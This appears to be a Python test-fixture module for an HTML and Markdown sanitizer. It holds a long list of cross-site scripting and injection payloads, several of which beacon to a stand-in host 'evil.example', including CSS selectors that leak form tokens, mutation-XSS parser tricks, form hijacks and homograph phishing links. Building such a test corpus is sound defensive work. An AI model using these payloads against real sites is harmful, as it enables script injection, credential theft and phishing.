"""What a hostile mail, page, invitation or model writes: tries to run something, to ask somebody else, to look like us.

`EVIL` stands for the attacker's server; `RUN` is what a script of theirs would do.
"""

EVIL = "http://evil.example"
RUN = f"window.hacked=1;new Image().src='{EVIL}/ran';alert(1)"

HTML = (
    f"<img src='{EVIL}/1'>",
    f"<img src=x onerror=\"{RUN}\"><img srcset='{EVIL}/2 1x, {EVIL}/3 2x' sizes=100vw>",
    f"<picture><source srcset='{EVIL}/4'><img src='{EVIL}/5' loading=eager></picture>",
    f"<input type=image src='{EVIL}/6'><image src='{EVIL}/7'></image><body background='{EVIL}/8'><table background='{EVIL}/9'><td background='{EVIL}/10'>",
    f'<p style="background:url({EVIL}/11)">a</p><p style="background-image:u\\72l(\'{EVIL}/12\')">b</p><li style="list-style:url({EVIL}/13)">c',
    f"<style>@import '{EVIL}/14'; body{{background:url({EVIL}/15)}} @font-face{{font-family:x;src:url({EVIL}/16)}} *{{font-family:x}}</style>",
    f"<style>input[value^='a']{{background:url({EVIL}/17)}} [name=csrf_token][value]{{background:url({EVIL}/18)}} a:visited{{color:red}}</style>",
    f"<link rel=stylesheet href='{EVIL}/19'><link rel=prefetch href='{EVIL}/20'><link rel=preconnect href='{EVIL}'><link rel=dns-prefetch href='//x.evil.example'>",
    f"<link rel=preload as=image href='{EVIL}/21'><link rel=modulepreload href='{EVIL}/22'><link rel=icon href='{EVIL}/23'><link rel=manifest href='{EVIL}/24'>",
    f"<svg onload=\"{RUN}\"><image href='{EVIL}/25'/><image xlink:href='{EVIL}/26'/><use href='{EVIL}/27#a'/><script>{RUN}</script></svg>",
    f"<svg><foreignObject><img src='{EVIL}/28'></foreignObject><animate attributeName=href values='javascript:{RUN}'/><style>@import '{EVIL}/29'</style></svg>",
    f"<video poster='{EVIL}/30' src='{EVIL}/31' autoplay><source src='{EVIL}/32'><track src='{EVIL}/33' default></video><audio src='{EVIL}/34' autoplay>",
    f"<iframe src='{EVIL}/35'></iframe><iframe srcdoc=\"<script>{RUN}</script><img src='{EVIL}/36'>\"></iframe><frameset><frame src='{EVIL}/37'></frameset>",
    f"<object data='{EVIL}/38'></object><embed src='{EVIL}/39'><applet code='{EVIL}/40'></applet><portal src='{EVIL}/41'></portal>",
    f"<script src='{EVIL}/42'></script><script>{RUN}</script><script type=module>import '{EVIL}/43'</script><SCRIPT/x>{RUN}</SCRIPT>",
    f'<body onload="{RUN}"><details open ontoggle="{RUN}">x</details><input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">',
    f"<a href=\"javascript:{RUN}\" id=run>a</a><a href='data:text/html,<script>{RUN}</script>'>b</a><a href='vbscript:x'>c</a><a href='JaVa\tScRiPt:{RUN}'>d</a>",
    f"<a href='&#1;javascript:{RUN}'>e</a><a href='{EVIL}' ping='{EVIL}/44'>f</a><a href='//evil.example/45' target=_top>g</a>",
    f"<form action='{EVIL}/46' method=post><button id=send>Sign in</button></form><button form=x formaction='{EVIL}/47'>x</button><isindex action='{EVIL}/48'>",
    f"<base href='{EVIL}/'><base target=_blank>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f"<math href='javascript:{RUN}'><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<svg></p><style><a id=\"</style><img src=x onerror='{RUN}'>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<textarea><title></textarea><img src=x onerror="{RUN}"></title>',
    f"<template><img src='{EVIL}/49' onerror=\"{RUN}\"></template><select><template><img src='{EVIL}/50'></template></select>",
    f'<!--><img src=x onerror="{RUN}">--><![CDATA[<img src=x onerror="{RUN}">]]><?xml-stylesheet href=\'{EVIL}/51\'?>',
    f"<p hx-get='{EVIL}/52' hx-trigger=load>x</p><p data-hx-get='{EVIL}/53' data-hx-trigger='load'>x</p><div hx-on::load=\"{RUN}\" hx-boost=true>",
    "<p id=main>x</p><input name=csrf_token value=theirs><a id=body name=cookie>x</a><form id=live><input name=attributes></form>",
    f"<div><b><i><table><tr><td><img src='{EVIL}/54' onerror=\"{RUN}\"",
    f"<xmp><img src=x onerror=\"{RUN}\"></xmp><plaintext><img src='{EVIL}/55'>",
)
REFRESH = f"<meta http-equiv=refresh content='0;url={EVIL}/56'>"

MARKDOWN = (
    f"![a]({EVIL}/m1) ![b][ref] ![ref]\n\n[ref]: {EVIL}/m2 'title'",
    f"![c](<{EVIL}/m3>) [![d]({EVIL}/m4)]({EVIL}/m5)",
    f"[run](javascript:{RUN.replace(' ', '')}) [run](JAVASCRIPT&colon;alert(1)) [run](&#x6A;avascript:alert(1)) [d](data:text/html,<script>1</script>)",
    f"<javascript:alert(1)> <{EVIL}/auto> <mailto:a@evil.example?bcc=all@evil.example>",
    f'[https://bank.example/login]({EVIL}/login) [bank.example](https://bank.example@evil.example/) [x]({EVIL} "onmouseover={RUN}")',
    "[bank](https://xn--80ak6aa92e.com/) [b\u200bank](https://b\u0430nk.example/) \u202eelpmaxe.live//:ptth\u202c [here](/?token=theirs) [there](//evil.example/)",
    *(one.replace("\n", " ") for one in HTML),
    f"```html\n<img src='{EVIL}/m6' onerror=\"{RUN}\">\n```\n\n    <script>{RUN}</script>\n\n`<img src={EVIL}/m7>`",
    f"| a | b |\n|---|---|\n| <img src={EVIL}/m8> | ![x]({EVIL}/m9) |\n\n> <iframe src={EVIL}/m10>\n\n- <svg onload={RUN}>",
)
